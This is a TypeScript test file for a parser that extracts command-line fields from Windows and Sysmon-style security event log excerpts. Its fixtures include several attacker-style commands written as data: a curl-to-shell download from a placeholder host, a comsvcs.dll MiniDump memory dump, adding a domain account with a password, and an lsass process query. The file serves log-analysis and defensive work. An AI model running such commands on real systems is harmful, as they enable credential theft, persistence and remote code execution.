import { commandFields, commandOfEventFields, hasEventFieldLabel } from './event-fields';

const commandsOf = (text: string) => commandFields(text)?.commands.map((value) => text.slice(value.start, value.end)) ?? null;

describe('commandFields', () => {
  it('reads the command-line field of fields a page ran together, up to the next label', () => {
    const text = 'Image: D:\\Apps\\helper.exe CommandLine: helper.exe --sync D:\\data User: CORP\\svc_app';
    expect(commandsOf(text)).toEqual(['helper.exe --sync D:\\data']);
    expect(commandFields(text)?.fields).toBe(3);
  });

  it('reads parent and process command lines and the spaced labels of event 4688', () => {
    expect(commandsOf('ParentCommandLine: agent.exe -k one CommandLine: agent.exe -k two')).toEqual([
      'agent.exe -k one',
      'agent.exe -k two',
    ]);
    expect(commandsOf('- New Process Name: C:\\x\\tool.exe Process Command Line: tool.exe /scan')).toEqual(['tool.exe /scan']);
  });

  it('is not a field line when the line does not start with a field label', () => {
    expect(commandsOf('The process CommandLine: was empty')).toBeNull();
    expect(commandsOf('Note: CommandLine: x.exe')).toBeNull();
  });

  it('gives no command for a field line without a command-line field', () => {
    expect(commandsOf('ParentImage: C:\\Windows\\explorer.exe Image: C:\\Temp\\a.exe')).toEqual([]);
  });

  it.each([
    ['Image: C:\\Windows\\System32\\cmd.exe CommandLine: cmd.exe /c whoami', true],
    ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe C:\\Windows\\System32\\cmd.exe CommandLine: cmd /c "net group"', true],
    ['ParentImage: C:\\Windows\\explorer.exe', true],
    ['process.command_line: /bin/sh -c "curl http://x.example/a | sh"', true],
    ['rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\x.dmp full', false],
    ['dism /Online /Get-ImageInfo /ImageFile:C:\\sources\\install.wim', false],
    ['net user backup_DA P@ssw0rd1234 /add /dom', false],
    ['wmic process where "CommandLine like \'%lsass%\'" get ProcessId', false],
    ['New-Service -Name x -Description: "none"', false],
  ])('%s holds an event field label: %s', (line, expected) => {
    expect(hasEventFieldLabel(line)).toBe(expected);
  });

  it('reads the command an excerpt recorded: the last own command-line field, up to the next field', () => {
    expect(commandOfEventFields('Image: C:\\Windows\\System32\\cmd.exe CommandLine: cmd.exe /c whoami /all User: CORP\\svc')).toBe(
      'cmd.exe /c whoami /all',
    );
    expect(commandOfEventFields('ParentCommandLine: C:\\Windows\\explorer.exe CommandLine: rundll32.exe a.dll,Run')).toBe(
      'rundll32.exe a.dll,Run',
    );
    expect(commandOfEventFields('process.command_line: /bin/sh -c id')).toBe('/bin/sh -c id');
  });

  it('gives no command for an excerpt without an own command line, or a line that is no excerpt', () => {
    expect(commandOfEventFields('Image: C:\\Windows\\System32\\cmd.exe User: CORP\\svc')).toBeNull();
    expect(commandOfEventFields('ParentCommandLine: C:\\Windows\\explorer.exe')).toBeNull();
    expect(commandOfEventFields('CommandLine: ')).toBeNull();
    expect(commandOfEventFields('net user backup_DA P@ssw0rd1234 /add /dom')).toBeNull();
  });
});
